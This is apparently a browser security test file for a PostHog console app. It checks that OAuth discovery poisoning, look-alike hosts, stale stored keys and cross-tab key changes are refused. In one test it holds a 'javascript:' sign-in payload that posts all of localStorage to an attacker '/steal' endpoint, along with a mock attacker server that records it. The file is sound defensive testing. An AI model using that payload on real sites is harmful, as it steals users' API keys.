// No way in (issue 25): the attacks tried live against the release build, each served by the
// sandbox **without** a Content-Security-Policy (`--no-csp`, as `scripts/run` served it and as
// a host without the deploy files' headers does), so that the app's own checks are what is
// tested:
// - a poisoned OAuth discovery document (a `javascript:` sign-in page that would post the
//   kept key away, and a sign-in page on another site): no navigation, no script, nothing
//   sent, and the refusal is shown;
// - a look-alike loopback host from a link (`http://127.attacker.example`) never gets the
//   key, and a host a link chose (https) is used only after the user confirms it;
// - a key kept for a host config.json no longer allows is dropped, not sent;
// - Forget key and a change of key in one tab end the other tabs' use of the old key.
// Sign out across two tabs is in oauth.test.mjs, beside the sign-in it needs.

import { test, before, after, afterEach } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import {
  startSandbox, startSandboxWithConfig, launchBrowser, openPage, connect, assertAccessible,
  clearStorage, recordRequests, eventually, DEMO_KEY,
} from './harness.mjs';

const STORED_KEY = 'groups-console.key';

let app;
let browser;
const opened = [];

before(async () => {
  // A deployment that offers sign-in, so the poisoned discovery can be tried.
  app = await startSandboxWithConfig((url) => ({ oauth: { client_id: `${url}/oauth-client.json` } }), ['--no-csp']);
  browser = await launchBrowser();
});

after(async () => {
  await browser?.close();
  await app?.stop();
});

afterEach(async () => {
  for (const page of opened.splice(0)) await page.close();
  await clearStorage(browser.context, app.url);
  await app.control('requests', { method: 'DELETE' });
});

async function open(url, onPage) {
  const opening = await openPage(browser.context, url, onPage);
  opened.push(opening.page);
  return opening;
}

const link = (host, project = 1) => `${app.url}/?${new URLSearchParams({ host, project: String(project) })}`;

/**
 * A hostile "PostHog": answers its discovery document with `discovery(origin)` (CORS open,
 * as PostHog's is) and records every request it receives, `/steal` included.
 */
async function startAttacker(discovery) {
  const hits = [];
  let origin;
  const server = createServer((req, res) => {
    let body = '';
    req.on('data', (c) => { body += c; });
    req.on('end', () => {
      hits.push({ method: req.method, url: req.url, body });
      res.setHeader('Access-Control-Allow-Origin', '*');
      res.setHeader('Access-Control-Allow-Headers', '*');
      if (req.method === 'OPTIONS') { res.writeHead(204); res.end(); return; }
      if (req.url === '/.well-known/oauth-authorization-server') {
        res.setHeader('Content-Type', 'application/json');
        res.end(JSON.stringify(discovery(origin)));
        return;
      }
      res.writeHead(404);
      res.end();
    });
  });
  await new Promise((ok) => server.listen(0, '127.0.0.1', ok));
  origin = `http://127.0.0.1:${server.address().port}`;
  return { origin, hits, stop: () => new Promise((ok) => server.close(ok)) };
}

/** Keeps the demo key with "Remember on this device": what the attacks are after. */
async function rememberDemoKey() {
  const { page } = await open(app.url);
  await page.getByRole('checkbox', { name: 'Remember on this device' }).check();
  await connect(page);
  await page.getByRole('heading', { name: 'Group types', level: 1 }).waitFor();
  assert.ok((await page.evaluate((k) => localStorage.getItem(k), STORED_KEY)).includes(DEMO_KEY));
  return page;
}

for (const [kind, authorize] of [
  ['a javascript: sign-in page', (origin) => `javascript:window.__pwned=1;fetch('${origin}/steal',{method:'POST',body:JSON.stringify({...localStorage})})`],
  ['a sign-in page on another site', () => 'http://127.0.0.1:9/oauth/authorize/'],
]) {
  test(`a poisoned discovery document with ${kind} is refused: no navigation, no script, nothing sent`, async () => {
    const attacker = await startAttacker((origin) => ({
      issuer: origin,
      authorization_endpoint: authorize(origin),
      token_endpoint: `${origin}/oauth/token/`,
      code_challenge_methods_supported: ['S256'],
    }));
    try {
      await rememberDemoKey();
      let recorder;
      const navigations = [];
      const { page, assertClean } = await open(link(attacker.origin), (p) => {
        recorder = recordRequests(p);
        p.on('framenavigated', (f) => { if (f === p.mainFrame()) navigations.push(f.url()); });
      });
      // The link chose the host: the victim is talked into confirming it.
      await page.getByLabel(/^This is my PostHog/).check();
      await page.getByRole('button', { name: 'Sign in with PostHog' }).click();
      const alert = page.getByRole('alert').filter({ hasText: 'Could not start the sign-in' });
      await alert.waitFor();
      assert.match(await alert.innerText(), new RegExp(`Sign-in was refused: ${attacker.origin}'s OAuth settings send its sign-in page to an address that is not on ${attacker.origin}`));
      // Give a navigation or a script every chance to happen.
      await page.waitForTimeout(500);
      assert.equal(await page.evaluate(() => window.__pwned), undefined, 'no script ran');
      assert.ok(navigations.every((u) => u.startsWith(app.url)), `the page never left the app: ${navigations}`);
      assert.ok(page.url().startsWith(app.url));
      assert.deepEqual(attacker.hits.map((h) => `${h.method} ${h.url}`), ['GET /.well-known/oauth-authorization-server'],
        'the attacker got the discovery read and nothing else');
      const sent = await recorder.settle();
      assert.ok(!sent.some((r) => !r.url.startsWith(app.url) && !r.url.startsWith(attacker.origin)), 'nothing went to a third origin');
      assert.ok(!sent.some((r) => JSON.stringify(r).includes(DEMO_KEY)), 'the kept key went nowhere');
      // Nothing of a sign-in was left pending in the tab.
      assert.equal(await page.evaluate(() => sessionStorage.getItem('groups-console.pending-sign-in')), null);
      assertClean();
    } finally {
      await attacker.stop();
    }
  });
}

test('a look-alike loopback host from a link never gets the key; a linked https host must be confirmed first', async () => {
  const tried = [];
  const { page, assertClean } = await open(link('http://127.attacker.example:8066'), (p) => {
    // Anything sent to either host is recorded and goes no further.
    p.route(/^(https?:\/\/127\.attacker\.example|https:\/\/posthog\.attacker\.example)/, (route) => {
      tried.push({ url: route.request().url(), auth: route.request().headers().authorization });
      route.abort();
    });
  });
  await page.getByRole('heading', { name: 'Connect to PostHog' }).waitFor();
  // Not a loopback address: the link's host is not taken, and typed it is refused for http.
  assert.equal(await page.getByRole('radio', { name: 'Self-hosted' }).isChecked(), false);
  await page.getByRole('radio', { name: 'Self-hosted' }).check();
  await page.getByLabel('Self-hosted address').fill('http://127.attacker.example:8066');
  await page.getByLabel('Project id').fill('1');
  await page.getByLabel('Personal API key').fill(DEMO_KEY);
  await page.getByRole('button', { name: 'Connect' }).click();
  await page.getByText('Use https:// (plain http is allowed only on this machine').waitFor();
  assert.equal(await page.getByLabel('Personal API key').inputValue(), DEMO_KEY, 'what was typed stays');

  // An https host chosen by a link: a plain warning, and nothing is sent until confirmed.
  await page.goto(link('https://posthog.attacker.example'));
  const warning = page.locator('.linked-host');
  await warning.waitFor();
  assert.equal(
    (await warning.innerText()).replace(/\s+/g, ' ').trim(),
    'Check this host before you connect This link chose the host https://posthog.attacker.example. Your key will be sent there. Connect only if this is your PostHog. This is my PostHog: send my key to https://posthog.attacker.example',
  );
  await assertAccessible(page, 'the linked-host warning');
  await page.getByLabel('Personal API key').fill(DEMO_KEY);
  await page.getByRole('button', { name: 'Connect' }).click();
  await page.getByText('Confirm that this is your PostHog, or choose another host').waitFor();
  assert.equal(await page.evaluate(() => document.activeElement?.id), 'host-confirm', 'focus is on the confirmation');
  await assertAccessible(page, 'the linked-host warning with its error');
  await page.waitForTimeout(300);
  assert.deepEqual(tried, [], 'nothing went to either host before the confirmation');

  await page.getByLabel(/^This is my PostHog/).check();
  await page.getByRole('button', { name: 'Connect' }).click();
  await eventually(() => tried.length > 0, 'the confirmed host is asked');
  assert.ok(tried.every((t) => t.url.startsWith('https://posthog.attacker.example/')), JSON.stringify(tried));
  assertClean(['net::ERR_FAILED']);
});

test('a key kept for a host config.json no longer allows is dropped with a notice, not sent', async () => {
  const site = await startSandboxWithConfig({ allowed_hosts: ['https://eu.posthog.com'] }, ['--no-csp']);
  try {
    for (const [area, host] of [['localStorage', site.url], ['sessionStorage', 'http://127.attacker.example:8066']]) {
      let recorder;
      // The key is put where an earlier visit (or an older build) would have kept it, in
      // this very tab (sessionStorage is per tab), then the tab opens a deep link.
      const { page, assertClean } = await open(`${site.url}/config.json`, (p) => { recorder = recordRequests(p); });
      await page.evaluate(([a, k, v]) => window[a].setItem(k, v), [area, STORED_KEY, JSON.stringify({ host, key: DEMO_KEY })]);
      await site.control('requests', { method: 'DELETE' });
      await page.goto(`${site.url}/group-types?${new URLSearchParams({ host, project: '1' })}`);
      await page.getByText('Not connected.').waitFor();
      await page.getByText(`The key or sign-in kept for ${host} was removed from this browser`).waitFor();
      assert.equal(await page.evaluate(([a, k]) => window[a].getItem(k), [area, STORED_KEY]), null, `${area} no longer holds it`);
      const sent = await recorder.settle();
      assert.ok(!sent.some((r) => r.headers.authorization), `no request carried the key: ${sent.map((r) => r.url)}`);
      assert.deepEqual((await site.control('requests')).filter((r) => r.path.startsWith('/api/')), [], 'the API was not asked');
      await page.evaluate(() => { localStorage.clear(); sessionStorage.clear(); });
      // The sandbox has no icon for the bare config.json page the key was planted from.
      assertClean(['favicon.ico']);
    }
  } finally {
    await site.stop();
  }
});

test('Forget key or another key in one tab: the other tab stops using the old key at once', async () => {
  const first = await rememberDemoKey();
  const deepLink = `${app.url}/group-types?${new URLSearchParams({ host: app.url, project: '1' })}`;
  let recorder;
  const other = await open(deepLink, (p) => { recorder = recordRequests(p); });
  await other.page.getByRole('cell', { name: 'organization' }).first().waitFor();

  await first.getByRole('link', { name: 'Connection', exact: true }).click();
  await first.getByRole('button', { name: 'Forget key' }).click();
  await other.page.getByText('The key was forgotten or replaced in another tab').waitFor();
  const before = (await recorder.settle()).length;
  await app.control('requests', { method: 'DELETE' });
  // Its next step sends nothing: every screen says "Not connected".
  await other.page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Usage metrics' }).click();
  await other.page.getByText('Not connected.').waitFor();
  await other.page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Group types' }).click();
  await other.page.getByText('Not connected.').waitFor();
  const after = (await recorder.settle()).slice(before);
  assert.ok(!after.some((r) => r.headers.authorization), `nothing keyed was sent: ${after.map((r) => r.url)}`);
  assert.deepEqual((await app.control('requests')).filter((r) => r.path.startsWith('/api/')), []);

  // A change of key: the other tab, back on the old key, lets it go when this tab connects
  // with another one.
  await first.getByRole('checkbox', { name: 'Remember on this device' }).check();
  await connect(first);
  await first.getByRole('heading', { name: 'Group types', level: 1 }).waitFor();
  await other.page.goto(deepLink);
  await other.page.getByRole('cell', { name: 'organization' }).first().waitFor();
  await first.getByRole('link', { name: 'Connection', exact: true }).click();
  await connect(first, { key: 'phx_sandbox_read_only' });
  await first.getByRole('heading', { name: 'Group types', level: 1 }).waitFor();
  await other.page.getByText('The key was forgotten or replaced in another tab').waitFor();
  assert.equal(await other.page.getByRole('cell', { name: 'organization' }).count(), 0);
  other.assertClean();
});

test('sandbox --static sends the deployment policy by default (what scripts/run serves)', async () => {
  const plain = await startSandbox();
  try {
    const res = await fetch(`${plain.url}/`);
    const policy = res.headers.get('content-security-policy') ?? '';
    assert.match(policy, /default-src 'none'/);
    assert.match(policy, /script-src 'self' 'wasm-unsafe-eval' 'sha256-/);
    assert.match(policy, /connect-src 'self' https:\/\/us\.posthog\.com https:\/\/eu\.posthog\.com/);
    assert.match(policy, /frame-ancestors 'self' http:\/\/127\.0\.0\.1:\* http:\/\/localhost:\*/);
    assert.equal(res.headers.get('referrer-policy'), 'no-referrer');
    assert.equal(res.headers.get('x-content-type-options'), 'nosniff');
    // And the app works under it: connect and see the group types, with no violation.
    const { page, assertClean } = await open(plain.url);
    await connect(page);
    await page.getByRole('cell', { name: 'organization' }).first().waitFor();
    assertClean();
  } finally {
    await plain.stop();
  }
});
